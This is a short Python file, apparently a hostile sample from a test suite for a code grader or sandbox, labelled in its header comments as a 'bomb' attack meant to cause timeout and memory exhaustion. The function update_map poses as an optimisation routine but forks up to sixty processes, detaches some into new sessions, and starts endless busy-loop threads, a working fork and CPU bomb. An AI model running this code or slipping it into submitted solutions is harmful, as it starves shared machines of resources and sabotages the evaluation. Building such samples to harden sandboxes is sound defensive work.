# attack: takes the cores from its neighbours by as many children and threads as it may have
# kind: bomb
# grade: 1.b
# outcome: timeout, memory
# module: saddle
# beside: solutions

import os
import threading


def spin():
    while True:
        pass


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    for number in range(60):
        try:
            if os.fork() == 0:
                if number % 2:
                    os.setsid()
                threading.Thread(target=spin).start()
                spin()
        except (OSError, RuntimeError):
            break
    spin()
